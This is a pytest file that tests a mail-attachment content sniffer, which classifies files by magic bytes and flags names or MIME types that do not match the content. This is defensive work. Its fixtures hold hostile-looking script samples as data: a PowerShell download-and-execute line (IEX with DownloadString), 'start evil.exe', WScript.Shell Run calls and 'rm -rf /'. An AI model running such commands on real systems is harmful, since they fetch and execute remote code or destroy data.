"""Content sniffing: every input is built here from the format specs, never trusted by name."""

from __future__ import annotations

import io
import random
import struct
import time
import uuid
import zipfile
from pathlib import Path

import pytest
from extract_msg.ole_writer import OleWriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailcheck.sniff import Sniffed, declared_matches, extension_matches, sniff

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus"
OOXML_BASE = ["[Content_Types].xml", "_rels/.rels", "docProps/core.xml"]


def make_zip(names: list[str], *, encrypt: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name in names:
            zf.writestr(name, b"<x/>")
    data = bytearray(buf.getvalue())
    if encrypt:  # zipfile cannot write encrypted members: set bit 0 in both header copies
        for magic, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            pos = data.find(magic)
            while pos >= 0:
                data[pos + flag_offset] |= 1
                pos = data.find(magic, pos + 4)
    return bytes(data)


def make_ole(*streams: str) -> bytes:
    writer = OleWriter()
    for path in streams:
        writer.addEntry(path, data=b"x" * 100)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def guid_le(text: str) -> bytes:
    return uuid.UUID(text).bytes_le


def make_cab(*names: str) -> bytes:
    """CFHEADER + one CFFOLDER + CFFILE records (no data blocks; the sniffer reads names only)."""
    files = b"".join(
        struct.pack("<IIHHHH", 10, 0, 0, 0, 0, 0x20) + n.encode() + b"\0" for n in names
    )
    header = struct.pack(
        "<4sIIIIIBBHHHHH", b"MSCF", 0, 0, 0, 36 + 8, 0, 3, 1, 1, len(names), 0, 0, 0
    )
    return header + struct.pack("<IHH", 0, 1, 0) + files


def pe_bytes() -> bytes:
    dos = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80))
    return bytes(dos.ljust(0x80, b"\0")) + b"PE\x00\x00" + bytes(0x100)


EML = (
    b"Received: from mx.example.org by mail.example.com; Mon, 1 Jan 2024 10:00:00 +0000\r\n"
    b"Return-Path: <a@example.org>\r\nFrom: A <a@example.org>\r\nTo: b@example.com\r\n"
    b"Subject: Invoice\r\n  continued\r\nMessage-ID: <1@example.org>\r\n"
    b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nHello\r\n"
)
MHT = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="----=_NextPart_01"\r\n\r\n'
    b"------=_NextPart_01\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n"
    b"------=_NextPart_01\r\nContent-Location: file:///C:/editdata.mso\r\n"
    b"Content-Type: application/x-mso\r\n\r\nQWN0aXZlTWltZQAAAA\r\n"
)
BMP = b"BM" + struct.pack("<IHHIIiiHH", 70, 0, 0, 54, 40, 1, 1, 1, 24) + bytes(24)
ICO = struct.pack("<HHH", 0, 1, 1) + struct.pack("<BBBBHHII", 16, 16, 0, 0, 1, 32, 40, 22)

CASES: list[tuple[str, bytes, str]] = [
    ("empty", b"", "empty"),
    ("docx", make_zip([*OOXML_BASE, "word/document.xml"]), "docx"),
    ("docm", make_zip([*OOXML_BASE, "word/document.xml", "word/vbaProject.bin"]), "docm"),
    ("xlsx", make_zip([*OOXML_BASE, "xl/workbook.xml"]), "xlsx"),
    ("xlsm", make_zip([*OOXML_BASE, "xl/workbook.xml", "xl/vbaProject.bin"]), "xlsm"),
    ("xlsb", make_zip([*OOXML_BASE, "xl/workbook.bin"]), "xlsb"),
    ("pptx", make_zip([*OOXML_BASE, "ppt/presentation.xml"]), "pptx"),
    ("pptm", make_zip([*OOXML_BASE, "ppt/presentation.xml", "ppt/vbaProject.bin"]), "pptm"),
    ("ooxml-visio", make_zip([*OOXML_BASE, "visio/document.xml"]), "ooxml"),
    ("odf", make_zip(["mimetype", "content.xml", "META-INF/manifest.xml"]), "odf"),
    ("zip", make_zip(["invoice.exe", "readme.txt"]), "zip"),
    ("zip-word-without-content-types", make_zip(["word/document.xml"]), "zip"),
    ("zip-encrypted", make_zip(["invoice.js"], encrypt=True), "zip-encrypted"),
    ("zip-empty", b"PK\x05\x06" + bytes(18), "zip"),
    ("zip-corrupt", b"PK\x03\x04" + b"\xff" * 200, "zip"),
    ("doc", make_ole("WordDocument", "1Table"), "doc"),
    ("xls", make_ole("Workbook"), "xls"),
    ("xls-excel5", make_ole("Book"), "xls"),
    ("ppt", make_ole("PowerPoint Document"), "ppt"),
    ("msg", make_ole("__substg1.0_0037001F", "__properties_version1.0"), "msg"),
    ("ole-encrypted-ooxml", make_ole("EncryptionInfo", "EncryptedPackage"), "ole-encrypted-ooxml"),
    ("ole-generic", make_ole("Contents"), "ole"),
    ("ole-corrupt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "ole"),
    ("rar4", b"Rar!\x1a\x07\x00" + bytes(20), "rar"),
    ("rar5", b"Rar!\x1a\x07\x01\x00" + bytes(20), "rar"),
    ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24), "7z"),
    ("gzip", b"\x1f\x8b\x08\x00" + bytes(20), "gzip"),
    ("bzip2", b"BZh91AY&SY" + bytes(20), "bzip2"),
    ("xz", b"\xfd7zXZ\x00" + bytes(20), "xz"),
    ("cab", make_cab("setup.exe"), "cab"),
    ("onepkg", make_cab("Open Notebook.onetoc2", "Section.one"), "onenote"),
    ("iso", bytes(0x8001) + b"CD001\x01" + bytes(100), "iso"),
    ("iso-0x8801", bytes(0x8801) + b"CD001\x01" + bytes(100), "iso"),
    ("udf", bytes(0x8001) + b"BEA01\x01" + bytes(100), "img"),
    ("pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", "pdf"),
    ("pdf-junk-prefix", b"\x00\x01junk" * 20 + b"%PDF-1.4\n", "pdf"),
    ("pdf-text-prefix", b"hello there\n%PDF-1.4\n1 0 obj\n", "pdf"),
    ("rtf", b"{\\rtf1\\ansi\\deff0 {\\fonttbl}}", "rtf"),
    ("rtf-truncated-magic", b"{\\rt0\\ansi {\\object}}", "rtf"),
    ("mht", MHT, "mht"),
    ("activemime", b"ActiveMime\x00\x00\x01\xf0" + bytes(40), "activemime"),
    ("activemime-b64", b"QWN0aXZlTWltZQAAAAAB8AAAAP", "activemime"),
    ("slk", b'ID;PWXL;N;E\r\nC;X1;Y1;K"hi"\r\nE\r\n', "slk"),
    (
        "lnk",
        b"\x4c\x00\x00\x00" + guid_le("00021401-0000-0000-C000-000000000046") + bytes(56),
        "lnk",
    ),
    ("onenote", guid_le("{7B5C52E4-D88C-4DA7-AEB1-5378D02996D3}") + bytes(64), "onenote"),
    ("pe", pe_bytes(), "pe"),
    ("elf", b"\x7fELF\x02\x01\x01" + bytes(57), "elf"),
    ("macho", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24), "macho"),
    ("macho-fat", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(24), "macho"),
    ("png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17), "png"),
    ("jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(20), "jpeg"),
    ("gif", b"GIF89a\x01\x00\x01\x00" + bytes(20), "gif"),
    ("bmp", BMP, "bmp"),
    ("tiff", b"II*\x00\x08\x00\x00\x00" + bytes(20), "tiff"),
    ("webp", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(20), "webp"),
    ("wav", b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(20), "wav"),
    ("ico", ICO + bytes(40), "ico"),
    ("heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00" + bytes(20), "heic"),
    ("mp4", b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00" + bytes(20), "mp4"),
    ("mp3", b"ID3\x04\x00\x00" + bytes(30), "mp3"),
    ("svg", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"></svg>', "svg"),
    ("html", b"<!DOCTYPE html>\n<html><body>Invoice</body></html>", "html"),
    ("html-fragment", b"<!-- saved -->\n<script>location='https://x.example'</script>", "html"),
    ("xml", b'<?xml version="1.0" encoding="utf-8"?>\n<root><a/></root>', "xml"),
    ("eml", EML, "eml"),
    ("eml-mbox", b"From a@example.org Mon Jan  1 00:00:00 2024\n" + EML, "eml"),
    ("shebang", b"#!/bin/sh\necho hi\n", "script"),
    ("batch", b"@echo off\r\nSETLOCAL\r\nstart evil.exe\r\n", "script"),
    ("vbscript", b'Dim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', "script"),
    ("jscript", b'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("calc");\n', "script"),
    (
        "powershell",
        b"$u = 'http://x'\nIEX (New-Object Net.WebClient).DownloadString($u)\n",
        "script",
    ),
    ("hta", b'<html><head><HTA:APPLICATION ID="x"></head><script>1</script></html>', "script"),
    ("text", "Grüße, please see the invoice.\n".encode(), "text"),
    ("text-cp1252", "Ol\xe1, segue a fatura em anexo.\n".encode("cp1252"), "text"),
    ("text-utf16", "\ufeffhello world\r\n".encode("utf-16-le"), "text"),
    ("text-mentions-code", b"To fix it, set x = 1 and run the script again.\n", "text"),
    ("yaml-is-not-mail", b"name: x\ndate: 2024-01-01\nfrom: a\nto: b\n", "text"),
    ("http-dump-is-not-mail", b"HTTP/1.1 200 OK\r\nDate: x\r\n\r\n<html></html>", "html"),
    ("id3-prose", b"ID3 tags describe songs.\n", "text"),
    (
        "mht-browser",
        b"From: <Saved by Blink>\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/related;\r\n\ttype="text/html"\r\n\r\n',
        "mht",
    ),
    (
        "eml-related",
        b"From: a@x\r\nTo: b@y\r\nMessage-ID: <1@x>\r\n"
        b"Content-Type: multipart/related; boundary=b\r\n\r\n",
        "eml",
    ),
    ("readme-with-js", b"# Usage\n\nCall `require('x')` and you are done.\n", "text"),
    ("random", random.Random(0).randbytes(4096), "unknown"),
]


@pytest.mark.parametrize(("data", "kind"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_sniff_kind(data: bytes, kind: str) -> None:
    got = sniff(data)
    assert got.kind == kind
    assert got.mime
    assert all(e.startswith(".") and e == e.lower() for e in got.extensions)


def test_sniff_details() -> None:
    xlsm = sniff(make_zip([*OOXML_BASE, "xl/workbook.xml", "xl/vbaProject.bin"]))
    assert xlsm == Sniffed(
        kind="xlsm",
        mime="application/vnd.ms-excel.sheet.macroEnabled.12",
        extensions=(".xlsm", ".xltm", ".xlam"),
    )
    assert sniff(b"#!/usr/bin/env python3\nprint(1)\n").extensions[0] == ".py"
    assert sniff(b"#!/bin/bash\nls\n").extensions[0] == ".sh"
    assert ".bat" in sniff(b"@echo off\r\n").extensions
    assert sniff(bytearray(b"%PDF-1.4")).kind == "pdf"  # type: ignore[arg-type]
    assert sniff("not bytes").kind == "unknown"  # type: ignore[arg-type]


def test_macro_part_wins_over_content_types() -> None:
    # Names only: a vbaProject.bin makes it macro-enabled whatever the package claims to be.
    assert sniff(make_zip([*OOXML_BASE, "word/document.xml", "word/vbaProject.bin"])).kind == "docm"


def test_large_inputs_are_fast() -> None:
    noise = random.Random(1).randbytes(50 * 1024 * 1024)
    for data in (
        noise,
        b"PK\x03\x04" + noise,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise,
        b"a" * len(noise),
        b"MZ" + noise,
    ):
        start = time.perf_counter()
        sniff(data)
        assert time.perf_counter() - start < 5  # generous hang guard: sniffing reads a prefix


MAGICS = [
    b"",
    b"PK\x03\x04",
    b"PK\x05\x06",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"MSCF\0\0\0\0",
    b"MZ",
    b"BM",
    b"\0\0\1\0",
    b"RIFF",
    b"\0\0\0\x18ftyp",
    b"\xca\xfe\xba\xbe",
    b"BZh9",
    b"#!",
    b"Received: x\r\nFrom: y\r\n",
    b"<?xml",
    b"<html>",
    b"\xff\xfe",
    b"\xef\xbb\xbf",
]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(MAGICS), st.binary(max_size=3000))
def test_sniff_never_raises(prefix: bytes, rest: bytes) -> None:
    got = sniff(prefix + rest)
    assert isinstance(got, Sniffed) and got.kind


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=2000))
def test_sniff_text_never_raises(text: str) -> None:
    assert sniff(text.encode("utf-8", "surrogatepass")).kind


XLSM = sniff(make_zip([*OOXML_BASE, "xl/workbook.xml", "xl/vbaProject.bin"]))
ZIP = sniff(make_zip(["a.exe"]))
PDF = sniff(b"%PDF-1.7\n")


@pytest.mark.parametrize(
    ("name", "sniffed", "ok"),
    [
        ("invoice.pdf", ZIP, False),
        ("report.xlsm", XLSM, True),
        ("REPORT.XLSM", XLSM, True),
        ("photo.jpg", XLSM, False),
        ("report.xlsx", XLSM, False),  # macros under a macro-free name
        ("README", XLSM, True),
        ("", PDF, True),
        (".hidden", PDF, True),
        ("invoice.pdf", PDF, True),
        ("invoice.pdf.exe", PDF, False),
        ("invoice.exe.pdf", PDF, True),
        ("C:\\mail\\invoice.pdf. ", PDF, True),  # Windows strips trailing dots and spaces
        ("notes.exe", sniff(b"just words\n"), True),  # "text" never contradicts a name
        ("blob.xyz", sniff(random.Random(0).randbytes(64)), True),  # nor does "unknown"
        ("attachment.bin", PDF, True),  # generic names claim nothing
        ("script.txt", sniff(b"#!/bin/sh\nrm -rf /\n"), True),
        ("doc.docx", sniff(make_ole("WordDocument")), False),
    ],
)
def test_extension_matches(name: str, sniffed: Sniffed, ok: bool) -> None:
    assert extension_matches(name, sniffed) is ok


@pytest.mark.parametrize(
    ("declared", "sniffed", "ok"),
    [
        ("application/pdf", ZIP, False),
        ("application/pdf", PDF, True),
        ('Application/PDF; name="a.pdf"', PDF, True),
        ("application/octet-stream", ZIP, True),
        ("application/octet-stream", XLSM, True),
        ("", PDF, True),
        ("application/x-download", PDF, True),
        ("binary/octet-stream", PDF, True),
        ("application/vnd.ms-excel.sheet.macroEnabled.12", XLSM, True),
        # Mailers label by application, not format: the legacy Excel type is fine for .xlsm.
        ("application/vnd.ms-excel", XLSM, True),
        ("application/zip", XLSM, True),  # an OOXML package really is a zip
        ("application/msword", XLSM, False),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ZIP, False),
        ("text/plain", sniff(b"hello\n"), True),
        ("text/html", sniff(b"<html><body>x</body></html>"), True),
        ("text/plain", PDF, False),
        ("image/jpeg", sniff(b"\x89PNG\r\n\x1a\n" + bytes(20)), True),
        ("image/png", PDF, False),
        ("application/x-msdownload", sniff(pe_bytes()), True),
        ("application/pdf", sniff(pe_bytes()), False),
        ("message/rfc822", sniff(EML), True),
        ("application/msword", sniff(b"{\\rtf1 x}"), True),
        ("application/anything", sniff(random.Random(0).randbytes(64)), True),
    ],
)
def test_declared_matches(declared: str, sniffed: Sniffed, ok: bool) -> None:
    assert declared_matches(declared, sniffed) is ok


# Extension family -> acceptable kinds for the third-party corpus.
FAMILIES: dict[str, set[str]] = {
    ".doc": {"doc"},
    ".docx": {"docx", "docm", "ole-encrypted-ooxml"},
    ".xls": {"xls"},
    ".one": {"onenote"},
    ".onepkg": {"onenote"},
    ".lnk": {"lnk"},
    ".zip": {"zip", "zip-encrypted"},
    ".7z": {"7z"},
    ".rar": {"rar"},
    ".pdf": {"pdf"},
    ".cab": {"cab"},
    ".iso": {"iso"},
    ".exe": {"pe"},
    ".png": {"png"},
    ".jpg": {"jpeg"},
    ".gif": {"gif"},
    ".gz": {"gzip"},
    ".bz2": {"bzip2"},
    ".xz": {"xz"},
    ".elf": {"elf"},
    ".macho": {"macho"},
    ".bat": {"script"},
    ".js": {"script"},
    ".vba": {"script"},
    ".html": {"html"},
    ".xml": {"xml"},
    ".webp": {"webp"},
    ".bmp": {"bmp"},
    ".ico": {"ico"},
    ".heic": {"heic"},
    ".img": {"img", "iso"},
    ".msi": {"ole"},
    ".eml": {"eml"},
}
# A body fragment without any header block: genuinely not a message.
NOT_WHAT_THE_NAME_SAYS = {"test_broken.eml"}


def test_corpus_fixtures() -> None:
    root = CORPUS / "office" / "strelka_fixtures"
    if not root.is_dir():
        pytest.skip("third-party corpus not present")
    checked = 0
    for path in sorted(root.rglob("*")):
        kinds = FAMILIES.get(path.suffix.lower())
        if kinds is None or not path.is_file() or path.name in NOT_WHAT_THE_NAME_SAYS:
            continue
        got = sniff(path.read_bytes())
        assert got.kind in kinds, f"{path.name}: {got.kind}"
        assert extension_matches(path.name, got), path.name
        checked += 1
    assert checked >= 20


@pytest.mark.parametrize(
    "data",
    [
        b'<?XML version="1.0"?>\r\n<scriptlet>\r\n<registration progid="x"/>\r\n'
        b'<script language="JScript"><![CDATA[ new ActiveXObject("WScript.Shell") ]]></script>'
        b"\r\n</scriptlet>\r\n",
        b"<component id='a'>\n" + b"#$%&*(" * 5000 + b'\n<script language="VBScript">x</script>',
    ],
)
def test_a_script_component_is_a_script_even_behind_padding(data: bytes) -> None:
    found = sniff(data)
    assert (found.kind, found.extensions[0]) == ("script", ".sct")


@pytest.mark.parametrize(
    "data",
    [
        b"<html><body><script language=javascript>var a = 1;</script></body></html>",
        b"<component>" * 20_000,  # repeated elements once cost the square of their size
    ],
)
def test_pages_and_stray_elements_are_not_script_components(data: bytes) -> None:
    started = time.monotonic()
    found = sniff(data)
    assert time.monotonic() - started < 5  # a hang guard, not a speed target
    assert found.extensions[:1] != (".sct",)
